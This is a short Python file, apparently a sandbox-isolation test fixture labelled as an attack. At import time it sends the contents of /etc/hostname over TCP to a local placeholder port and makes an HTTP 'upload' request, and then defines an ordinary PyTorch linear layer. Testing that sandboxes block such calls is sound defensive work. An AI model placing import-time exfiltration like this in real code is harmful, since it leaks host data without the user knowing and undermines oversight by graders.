"""Attack: phone home over TCP."""
import socket
import urllib.request

import torch
from torch import Tensor, nn

PORT = int("__TCP_PORT__")
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as connection:
        connection.sendall(b"exfiltrated: " + open("/etc/hostname", "rb").read())
    print("TCP connection made")
except OSError as exc:
    print(f"TCP: {exc}")
try:
    urllib.request.urlopen(f"http://127.0.0.1:{PORT}/upload?data=hidden-suite", timeout=0.5)
except Exception as exc:
    print(f"HTTP: {type(exc).__name__}: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
